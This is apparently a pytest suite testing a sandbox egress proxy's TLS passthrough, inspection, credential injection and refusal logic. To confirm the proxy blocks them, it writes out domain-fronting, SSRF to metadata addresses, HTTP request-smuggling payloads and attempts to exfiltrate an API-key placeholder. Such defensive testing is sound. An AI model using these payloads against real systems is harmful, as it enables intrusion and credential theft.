"""The egress proxy, from inside a sandbox, with real clients and real TLS.

Each test checks what the client saw and what the gateway recorded (one record per request or
tunnel), and where it matters what the server on the far side received.
"""

from __future__ import annotations

import contextlib
import json
import os
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandgate.events.schema import Event, Kind
from sandgate.session.runner import UID_BASE, RunResult

from .conftest import Runner

pytestmark = pytest.mark.kernel

VENV_PY = "/opt/sandgate/venv/bin/python"
AGENT_POLICY = Path(__file__).resolve().parents[2] / "examples" / "agent.toml"


@pytest.fixture
def work() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="sg-proxytest-") as d:
        path = Path(d)
        path.chmod(0o777)
        yield path


def _py(sandbox: Runner, work: Path, code: str, **kw: object) -> tuple[RunResult, str]:
    (work / "t.py").write_text(textwrap.dedent(code))
    (work / "out.txt").unlink(missing_ok=True)
    result = sandbox.sh(f"{VENV_PY} t.py > out.txt 2>&1", workdir=work, **kw)
    return result, (work / "out.txt").read_text() if (work / "out.txt").exists() else ""


def _http(sandbox: Runner, result: RunResult) -> list[Event]:
    return sandbox.events(result, Kind.HTTP)


def test_transparent_tls_passthrough_and_noproxy_refusal(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        """
        import subprocess
        def curl(*a):
            p = subprocess.run(["curl", "--noproxy", "*", "-sS", "-m", "5", "-o", "/dev/null",
                                "-w", "%{http_code}", *a], capture_output=True, text=True)
            print(p.returncode, p.stdout or p.stderr.strip())
        curl("https://pypi.org/simple/")
        # pypi.org's address is pinned, so L3 lets the flow start; the ClientHello names
        # another host, and the gate refuses it.
        curl("--resolve", "evil.example:443:203.0.113.20", "https://evil.example/")
    """,
        mode="allowlist",
    )
    lines = out.splitlines()
    assert lines[0] == "0 200"
    assert not lines[1].startswith("0 ")  # refused: reset during the handshake
    events = _http(sandbox, r)
    ok = next(e for e in events if e.name == "pypi.org")
    assert ok.verdict == "allow" and ok.details["tls"] == "passthrough"
    assert ok.details["door"] == "transparent" and ok.uid == UID_BASE
    assert ok.details["path"] == "kernel"  # judged on its ClientHello, then left to the kernel
    bad = next(e for e in events if e.name == "evil.example")
    assert bad.verdict == "deny" and bad.reason == "deny.not_allowlisted" and bad.uid == UID_BASE


def test_explicit_proxy_connect_and_absolute_form(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        """
        import os, requests, httpx
        print(requests.get("https://pypi.org/simple/", timeout=5).status_code)
        print(httpx.get("http://example.com/echo", timeout=5).json()["host"])
        try:
            requests.get("https://evil.example/", timeout=5)
            print("LEAK")
        except requests.exceptions.ProxyError as exc:
            print("refused", "403" in str(exc))
    """,
        mode="allowlist",
        allow=["example.com"],
    )
    assert out.split() == ["200", "example.com", "refused", "True"]
    events = _http(sandbox, r)
    assert {(e.name, e.details["door"], e.verdict) for e in events} >= {
        ("pypi.org", "explicit", "allow"),
        ("example.com", "explicit", "allow"),
        ("evil.example", "explicit", "deny"),
    }
    connect = next(e for e in events if e.name == "pypi.org")
    assert connect.details["tls"] == "passthrough" and connect.details["sni"] == "pypi.org"
    # The splice hub carried the tunnel, the gateway's default (sockmap.ON: the kernel relay has
    # no bound on what a guest that stops reading makes it hold), and its bytes are counted.
    fd_dir = Path(f"/proc/{sandbox.stack.gateway.pid}/fd")
    held = []
    for fd in fd_dir.iterdir():  # the daemon's after-reply work opens and closes sockets
        with contextlib.suppress(FileNotFoundError):
            held.append(os.readlink(fd))
    assert held.count("anon_inode:bpf-map") == 0 and held.count("anon_inode:bpf-prog") == 0
    assert connect.details["bytes_up"] > 500 and connect.details["bytes_down"] > 2000


def test_fronting_is_refused(sandbox: Runner, work: Path) -> None:
    # CONNECT to one name, then a ClientHello for another.
    r, out = _py(
        sandbox,
        work,
        """
        import os, socket, ssl
        proxy = os.environ["https_proxy"].removeprefix("http://").split(":")
        s = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)
        s.sendall(b"CONNECT pypi.org:443 HTTP/1.1\\r\\nHost: pypi.org:443\\r\\n\\r\\n")
        print(s.recv(200).split(b"\\r\\n")[0].decode())
        ctx = ssl.create_default_context()
        try:
            ctx.wrap_socket(s, server_hostname="example.com")
            print("LEAK")
        except (ssl.SSLError, OSError) as exc:
            print("refused")
    """,
        mode="open",
    )
    assert out.splitlines() == ["HTTP/1.1 200 Connection established", "refused"]
    fronted = [e for e in _http(sandbox, r) if e.reason == "deny.fronting"]
    assert fronted and fronted[0].details["sni"] == "example.com"


def test_no_sni_is_judged_by_address(sandbox: Runner, work: Path) -> None:
    # curl sends no SNI to an IP literal. Allowlist: no name, so the address alone decides
    # (and it was never pinned). Open: the gate judges the address and lets it pass.
    r = sandbox.sh(
        "curl --noproxy '*' -sk -m 5 -o /dev/null https://203.0.113.20/; echo rc=$?",
        mode="allowlist",
    )
    refused = [e for e in sandbox.events(r, Kind.CONN) if e.dst == "203.0.113.20"]
    assert refused and refused[0].reason == "deny.not_allowlisted"
    r = sandbox.sh("curl --noproxy '*' -sk -m 5 -o /dev/null https://203.0.113.20/", mode="open")
    passed = _http(sandbox, r)
    assert r.exit_code == 0 and passed[0].reason == "allow.open"
    assert passed[0].details.get("sni") is None


def test_connect_to_private_addresses_refused(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        """
        import requests
        for url in ("https://rebind.example/", "https://10.77.0.20:22/", "https://169.254.169.254/"):
            try:
                requests.get(url, timeout=5)
                print("LEAK", url)
            except requests.exceptions.ProxyError:
                print("refused")
    """,
        mode="open",
    )
    assert out.split() == ["refused"] * 3
    reasons = [e.reason for e in _http(sandbox, r)]
    assert reasons == ["deny.rebinding", "deny.private", "deny.metadata"]


def test_openai_sdk_streams_with_the_key_injected(sandbox: Runner, work: Path) -> None:
    before = len(sandbox.world_log("openai"))
    r, out = _py(
        sandbox,
        work,
        """
        import os, openai
        key = os.environ["OPENAI_API_KEY"]
        print("placeholder" if key.startswith("sg-openai-") else "REAL KEY VISIBLE")
        client = openai.OpenAI(base_url="https://api.openai.com/v1")
        chunks = client.chat.completions.create(
            model="gpt-sandgate", stream=True,
            messages=[{"role": "user", "content": "count to three"}])
        print("".join(c.choices[0].delta.content or "" for c in chunks if c.choices))
    """,
        policy=str(AGENT_POLICY),
    )
    lines = out.splitlines()
    assert lines[0] == "placeholder"
    assert lines[1] == "echo: count to three"
    record = next(e for e in _http(sandbox, r) if e.name == "api.openai.com")
    assert record.details["tls"] == "inspected" and record.details["status"] == 200
    assert record.details["credentials"] == ["injected:openai"]
    seen = [x for x in sandbox.world_log("openai")[before:] if x.get("event") == "request"]
    assert seen and seen[-1]["authorization"].startswith("Bearer sk-world-")
    # The real value is nowhere in the event store.
    real = seen[-1]["authorization"].removeprefix("Bearer ")
    assert real not in json.dumps([e.as_json() for e in sandbox.events(r)])


def test_placeholder_to_another_host_is_blocked(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        """
        import os, requests
        key = os.environ["OPENAI_API_KEY"]
        for url, kw in (("http://example.com/echo", {"headers": {"Authorization": key}}),
                        ("http://example.com/echo?k=" + key, {}),
                        ("http://example.com/echo", {"data": "secret=" + key})):
            r = requests.post(url, timeout=5, **kw)
            print(r.status_code, r.headers.get("x-sandgate-reason"))
    """,
        policy=str(AGENT_POLICY),
        allow=["example.com"],
    )
    assert out.splitlines()[:2] == ["403 deny.exfiltration"] * 2
    assert not out.splitlines()[2].startswith("200")
    exfil = [e for e in _http(sandbox, r) if e.reason == "deny.exfiltration"]
    assert len(exfil) == 3


def test_placeholder_over_plain_http_to_its_own_host_is_blocked(
    sandbox: Runner, work: Path
) -> None:
    _, out = _py(
        sandbox,
        work,
        """
        import os, requests
        r = requests.get("http://api.openai.com/v1/models", timeout=5,
                         headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
        print(r.status_code, r.headers.get("x-sandgate-reason"))
    """,
        policy=str(AGENT_POLICY),
        allow=["api.openai.com:80"],
    )
    assert out.strip() == "403 deny.exfiltration"


def test_trace_and_smuggling_shapes_refused(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        r"""
        import socket
        heads = [
            b"TRACE / HTTP/1.1\r\nHost: example.com\r\n\r\n",
            b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\n"
            b"Content-Length: 5\r\n\r\nabcd",
            b"POST / HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: example.com\r\nX: a\r\n b\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: example.com\r\nX: a\x00b\r\n\r\n",
            b"GET /\nHTTP/1.1\r\nHost: example.com\n\n",
            b"GET /a?token=s3cret HTTP/1.1\r\nHost: example.com\r\nX: s3cret\x00\r\n\r\n",
        ]
        for head in heads:
            s = socket.create_connection(("203.0.113.10", 80), timeout=5)
            s.sendall(head)
            print(s.recv(100).split(b"\r\n")[0].decode(errors="replace"))
            s.close()
        s = socket.create_connection(("203.0.113.10", 80), timeout=5)
        s.sendall(b"GET /status/204 HTTP/1.1\r\nHost: example.com\r\n\r\n")
        print(s.recv(100).split(b"\r\n")[0].decode())
    """,
        mode="open",
    )
    lines = out.splitlines()
    assert lines[0].startswith("HTTP/1.1 405")
    assert all(line.startswith("HTTP/1.1 4") for line in lines[1:-1]), lines
    assert lines[-1].startswith("HTTP/1.1 204")  # the proxy kept serving
    refused = [e for e in _http(sandbox, r) if e.verdict == "deny"]
    assert len(refused) == 8 and all(e.reason == "deny.protocol" for e in refused)
    # Each refusal says what it was aimed at, and nothing secret.
    assert all((e.name, e.port) == ("example.com", 80) for e in refused), refused
    assert refused[-1].details["path"] == "/a?…"
    assert "s3cret" not in json.dumps([e.as_json() for e in refused])


@pytest.mark.parametrize("mode", ["passthrough", "inspected"])
def test_sse_lockstep_through_the_proxy(sandbox: Runner, work: Path, mode: str) -> None:
    """The server sends event n+1 only after the client acknowledged event n: a proxy that
    buffered would deadlock this test (it would time out instead of finishing)."""
    policy = None
    if mode == "inspected":
        policy = work / "inspect.toml"
        policy.write_text('[profiles.p]\ninternet = "open"\ninspect = ["example.com"]\n')
    r, out = _py(
        sandbox,
        work,
        """
        import httpx, json
        url = "https://example.com"
        with httpx.Client(timeout=10) as c, c.stream("GET", url + "/sse?n=5&lockstep=1") as resp:
            sid = resp.headers["x-sg-lockstep-id"]
            got = 0
            for line in resp.iter_lines():
                if line.startswith("data:"):
                    n = json.loads(line[5:])["n"]
                    c.post(f"{url}/lockstep/{sid}/ack/{n}")
                    got += 1
            print("events", got)
    """,
        mode="open",
        policy=str(policy) if policy else None,
    )
    assert out.strip() == "events 5", out
    stream = next(
        e
        for e in _http(sandbox, r)
        if e.details.get("path", "").startswith("/sse") or e.details.get("tls") == "passthrough"
    )
    assert stream.details["tls"] == mode


def test_pip_installs_from_the_test_world_index(sandbox: Runner, work: Path) -> None:
    r = sandbox.sh(
        # pip through the interpreter: /tmp is noexec (issue 14), so bin/pip (a script) would
        # not run; bin/python is a link to the system's.
        f"{VENV_PY} -m venv /tmp/v && /tmp/v/bin/python -m pip install --no-cache-dir -q "
        "--index-url https://pypi.org/simple/ sandgate-hello > /work/out.txt 2>&1; "
        "/tmp/v/bin/python -c 'import sandgate_hello; print(sandgate_hello.GREETING)' "
        ">> /work/out.txt 2>&1",
        mode="allowlist",
        workdir=work,
        timeout=120,
    )
    out = (work / "out.txt").read_text()
    assert "hello from the test world" in out, out
    hosts = {e.name for e in _http(sandbox, r) if e.verdict == "allow"}
    assert "pypi.org" in hosts


def test_git_clone_over_https(sandbox: Runner, work: Path) -> None:
    r = sandbox.sh(
        "git clone -q https://github.com/octocat/Hello-World /work/hw && cat /work/hw/README",
        mode="allowlist",
        workdir=work,
        timeout=60,
    )
    assert r.exit_code == 0
    assert "Hello World" in (work / "hw" / "README").read_text()
    assert any(e.name == "github.com" and e.verdict == "allow" for e in _http(sandbox, r))


def test_websocket_through_inspection(sandbox: Runner, work: Path) -> None:
    policy = work / "inspect.toml"
    policy.write_text('[profiles.p]\ninternet = "open"\ninspect = ["example.com"]\n')
    r, out = _py(
        sandbox,
        work,
        r"""
        import base64, os, socket, ssl
        ctx = ssl.create_default_context()
        # By name: the gateway's resolver sends an inspected name's addresses to the proxy.
        s = ctx.wrap_socket(socket.create_connection(("example.com", 443), timeout=5),
                            server_hostname="example.com")
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall(("GET /ws HTTP/1.1\r\nHost: example.com\r\nUpgrade: websocket\r\n"
                   "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                   f"Sec-WebSocket-Key: {key}\r\n\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(1)
        print(head.split(b"\r\n")[0].decode())
        payload = b"hello through the gateway"
        mask = os.urandom(4)
        masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        frame = bytes([0x81, 0x80 | len(payload)]) + mask + masked
        s.sendall(frame)
        reply = s.recv(200)
        print(reply[2:2 + reply[1]].decode())
    """,
        mode="open",
        policy=str(policy),
    )
    assert out.splitlines() == ["HTTP/1.1 101 ", "hello through the gateway"], out
    ws = next(e for e in _http(sandbox, r) if e.details.get("status") == 101)
    assert ws.details["tls"] == "inspected"


def test_garbage_and_slow_clients_do_not_hurt_others(sandbox: Runner, work: Path) -> None:
    r, out = _py(
        sandbox,
        work,
        r"""
        import socket, threading, time, requests
        # A garbage "ClientHello", a truncated one, and a client that says nothing at all.
        garbage = b"\x16\x03\x01\x00\x05hello"
        truncated = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        for data in (garbage, truncated, b""):
            s = socket.create_connection(("203.0.113.10", 443), timeout=8)
            if data:
                s.sendall(data)
                if len(data) > 12:
                    s.shutdown(socket.SHUT_WR)
            try:
                print("closed" if s.recv(10) == b"" else "data")
            except (ConnectionResetError, TimeoutError) as exc:
                print(type(exc).__name__)
        print(requests.get("https://example.com/", timeout=5, proxies={"https": None}).status_code)
    """,
        mode="open",
        timeout=90,
    )
    lines = out.split()
    assert lines[-1] == "200"
    # Garbage is refused at once; a truncated hello when the gate stops waiting for the rest;
    # a client that says nothing passes nothing (the server may time it out).
    assert lines[0] in ("closed", "ConnectionResetError"), lines
    assert lines[1] in ("closed", "ConnectionResetError"), lines
    refused = [e for e in _http(sandbox, r) if e.reason == "deny.protocol"]
    assert len(refused) >= 2


def test_front_serves_the_lan_model_server_over_tls_streaming(sandbox: Runner, work: Path) -> None:
    """models.lan: the gateway fronts the plain-HTTP model server with TLS, and the stream
    passes in lock step (report 002's 17 s vs 6 min came from a buffering front)."""
    r, out = _py(
        sandbox,
        work,
        """
        import httpx, openai
        client = openai.OpenAI(base_url="https://models.lan/v1", api_key="none",
                               http_client=httpx.Client(trust_env=False))
        stream = client.chat.completions.with_raw_response.create(
            model="sg-test-model", stream=True, messages=[{"role": "user", "content": "a b c d"}],
            extra_headers={"x-sg-lockstep": "1"})
        sid = stream.headers["x-sg-lockstep-id"]
        acks = httpx.Client(trust_env=False)
        text, n = "", 0
        for chunk in stream.parse():
            acks.post(f"https://models.lan/lockstep/{sid}/ack/{n}")
            n += 1
            if chunk.choices:
                text += chunk.choices[0].delta.content or ""
        print(text)
    """,
        mode="locked",
    )
    assert out.strip() == "echo: a b c d", out
    record = next(e for e in _http(sandbox, r) if e.name == "models.lan")
    assert record.reason == "allow.exempt" and record.details["tls"] == "inspected"
    assert record.dst == "10.77.0.10" and record.port == 8000


def test_tunnel_byte_cap_ends_a_tunnel(sandbox: Runner, work: Path) -> None:
    policy = work / "cap.toml"
    policy.write_text('[profiles.p]\ninternet = "open"\ntunnels = { max_bytes = 200000 }\n')
    r = sandbox.sh(
        "curl -sS -m 10 -x $https_proxy -o /dev/null -w '%{size_download}' "
        "https://example.com/bytes/5000000; echo",
        policy=str(policy),
    )
    assert r.exit_code == 0
    tunnel = next(e for e in _http(sandbox, r) if e.name == "example.com")
    assert tunnel.details.get("note") == "ended: cap"
    assert tunnel.details["bytes_down"] <= 200000


def test_malformed_chunked_body_never_reaches_upstream(sandbox: Runner, work: Path) -> None:
    """Bad chunk framing is refused with 400 before the upstream is dialled: the listener at
    198.51.100.123:9 logs every connection it accepts, and sees only the well-formed one."""
    before = [x for x in sandbox.world_log("probe") if x.get("event") == "connect"]
    r, out = _py(
        sandbox,
        work,
        r"""
        import os, socket
        host, port = os.environ["http_proxy"].removeprefix("http://").rstrip("/").split(":")
        head = (b"POST http://198.51.100.123:9/upload?token=s3cret HTTP/1.1\r\n"
                b"Host: 198.51.100.123:9\r\nTransfer-Encoding: chunked\r\n\r\n")
        for body in (b"5\nhello\r\n0\r\n\r\n", b"0x5\r\nhello\r\n0\r\n\r\n",
                     b"5\r\nhelloX\r\n0\r\n\r\n", b"5\r\nhello\r\n0\r\n\r\n"):
            s = socket.create_connection((host, int(port)), timeout=5)
            s.sendall(head + body)
            try:
                print(s.recv(100).split(b"\r\n")[0].decode() or "closed")
            except OSError as exc:
                print(type(exc).__name__)
            s.close()
    """,
        mode="open",
    )
    lines = out.splitlines()
    assert [line.split()[:2] for line in lines[:3]] == [["HTTP/1.1", "400"]] * 3, out
    assert not lines[3].startswith("HTTP/1.1 400"), out  # the well-formed one was forwarded
    after = [x for x in sandbox.world_log("probe") if x.get("event") == "connect"]
    assert len(after) - len(before) == 1  # only the well-formed request dialled the listener
    refused = [e for e in _http(sandbox, r) if e.verdict == "deny"]
    assert len(refused) == 3, refused
    for e in refused:
        assert e.reason == "deny.protocol" and e.details["status"] == 400
        assert e.name == "198.51.100.123" and e.port == 9
        assert e.details["path"] == "/upload?…" and "s3cret" not in json.dumps(e.as_json())


def test_an_inspected_name_sharing_an_address_is_inspected(sandbox: Runner, work: Path) -> None:
    """deb.debian.org and security.debian.org share one address and one allow rule (so one pin
    set); only security is inspected. After the sandbox reached deb (its address pinned, not
    inspected), TLS to security still goes through inspection: the inspect element is not
    skipped as "already pinned"."""
    policy = work / "inspect-security.toml"
    policy.write_text(
        '[profiles.p]\ninternet = "allowlist"\nallow = [{ domain = "*.debian.org" }]\n'
        'inspect = ["security.debian.org"]\n'
    )
    r = sandbox.sh(
        "curl --noproxy '*' -sS -m 5 -o /dev/null https://deb.debian.org/ && "
        "curl --noproxy '*' -sS -m 5 -o /dev/null https://security.debian.org/ && echo both",
        mode="allowlist",
        policy=str(policy),
    )
    assert r.exit_code == 0, r
    tls = {e.name: e.details.get("tls") for e in _http(sandbox, r) if e.name}
    assert tls.get("security.debian.org") == "inspected", tls
    assert tls.get("deb.debian.org") != "inspected", tls
